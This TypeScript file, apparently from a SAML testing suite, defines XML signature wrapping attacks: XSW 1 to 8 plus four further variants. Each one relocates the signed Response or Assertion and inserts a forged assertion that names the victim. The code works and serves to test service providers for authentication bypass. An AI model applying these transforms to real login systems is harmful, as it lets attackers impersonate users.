// Signature wrapping: what is signed is moved to where it is still found by its ID, and what is read is forged. The
// numbers XSW 1 to 8 are those that testers use (SAML Raider).
import { namespaces } from '../names.ts';
import { childrenOf, oneOf, parseXml, writeXml } from '../xml.ts';
import { attacks, type Draft, onlyAssertion, onlyResponse, victim } from './attack.ts';

/** The parts of a response that one assertion is in; `signature` is that of what was signed. */
type Parts = { document: Document; response: Element; assertion: Element; signature: Element };

function partsOf(xml: string): Parts {
  const document = parseXml(xml);
  return {
    document,
    response: document.documentElement,
    assertion: oneOf(document, 'Assertion'),
    signature: oneOf(document, 'Signature'),
  };
}

const evilId = '_evil';

/** Makes an element say that it is about the victim, under an ID of its own. */
export function turnEvil(element: Element, id = evilId): Element {
  element.setAttribute('ID', id);
  oneOf(element, 'NameID').textContent = victim;
  return element;
}

const copy = (element: Element) => element.cloneNode(true) as Element;

export function unsigned(element: Element): Element {
  for (const signature of childrenOf(element, 'Signature')) element.removeChild(signature);
  return element;
}

/** A copy that was signed; its signature is elsewhere. */
const original = (element: Element) => unsigned(copy(element));

/** A forged assertion without a signature. */
export const forged = (assertion: Element, id = evilId) => turnEvil(unsigned(copy(assertion)), id);

const wrap = (change: (parts: Parts) => void) => ({
  finished: (xml: string) => {
    const parts = partsOf(xml);
    change(parts);
    return writeXml(parts.document);
  },
});

const clause = 'SAML core §5.4.2: a signature is over the element that it stands in';

const drafts: Draft[] = [
  {
    name: 'XSW 1: the signed Response inside the signature of a forged one',
    clause,
    signs: onlyResponse,
    how: wrap(({ response, signature }) => {
      const signed = original(response);
      turnEvil(response);
      signature.appendChild(signed);
    }),
  },
  {
    name: 'XSW 2: the signed Response before the signature of a forged one',
    clause,
    signs: onlyResponse,
    how: wrap(({ response, signature }) => {
      const signed = original(response);
      turnEvil(response);
      response.insertBefore(signed, signature);
    }),
  },
  {
    name: 'XSW 3: a forged Assertion before the signed one',
    clause,
    signature: 'holding',
    signs: onlyAssertion,
    how: wrap(({ response, assertion }) => void response.insertBefore(forged(assertion), assertion)),
  },
  {
    name: 'XSW 4: the signed Assertion inside a forged one',
    clause,
    signature: 'holding',
    signs: onlyAssertion,
    how: wrap(({ response, assertion }) => {
      const evil = forged(assertion);
      response.appendChild(evil);
      evil.appendChild(assertion);
    }),
  },
  {
    name: 'XSW 5: the forged Assertion has the signature, the signed one is at the end',
    clause,
    signs: onlyAssertion,
    how: wrap(({ response, assertion }) => {
      response.appendChild(original(assertion));
      turnEvil(assertion);
    }),
  },
  {
    name: 'XSW 6: the signed Assertion inside the signature of the forged one',
    clause,
    signs: onlyAssertion,
    how: wrap(({ assertion, signature }) => {
      const signed = original(assertion);
      turnEvil(assertion);
      signature.appendChild(signed);
    }),
  },
  {
    name: 'XSW 7: a forged Assertion with the same ID inside Extensions',
    clause,
    signs: onlyAssertion,
    how: wrap(({ document, response, assertion }) => {
      const extensions = document.createElementNS(namespaces.protocol, 'samlp:Extensions');
      extensions.appendChild(forged(assertion, assertion.getAttribute('ID') ?? ''));
      response.insertBefore(extensions, assertion);
    }),
  },
  {
    name: 'XSW 8: the signed Assertion inside an Object in the signature of the forged one',
    clause,
    signs: onlyAssertion,
    how: wrap(({ document, assertion, signature }) => {
      const signed = original(assertion);
      turnEvil(assertion);
      signature.appendChild(document.createElementNS(namespaces.signature, 'ds:Object')).appendChild(signed);
    }),
  },
  {
    name: 'the signed Assertion inside the Advice of a forged one',
    clause: 'SAML core §2.6.1: advice may be ignored, and says nothing about the subject',
    signature: 'holding',
    signs: onlyAssertion,
    how: wrap(({ document, response, assertion }) => {
      const evil = forged(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(document.createElementNS(namespaces.assertion, 'saml:Advice')).appendChild(assertion);
    }),
  },
  {
    name: 'a forged Assertion after the signed one',
    clause,
    signature: 'holding',
    signs: onlyAssertion,
    how: wrap(({ response, assertion }) => void response.appendChild(forged(assertion))),
  },
  {
    name: 'the Assertion’s signature stands in the Response',
    clause,
    signs: onlyAssertion,
    how: wrap(({ response, assertion, signature }) => {
      response.insertBefore(signature, oneOf(response, 'Status'));
      assertion.normalize();
    }),
  },
  {
    name: 'the Response has the ID of the signed Assertion',
    clause: 'SAML core §1.3.4: an ID is of one element',
    signs: onlyAssertion,
    how: wrap(({ response, assertion }) => response.setAttribute('ID', assertion.getAttribute('ID') ?? '')),
  },
];

export const wrappingAttacks = attacks(
  'wrapping',
  drafts.map(draft => ({ signature: 'astray', ...draft })),
);
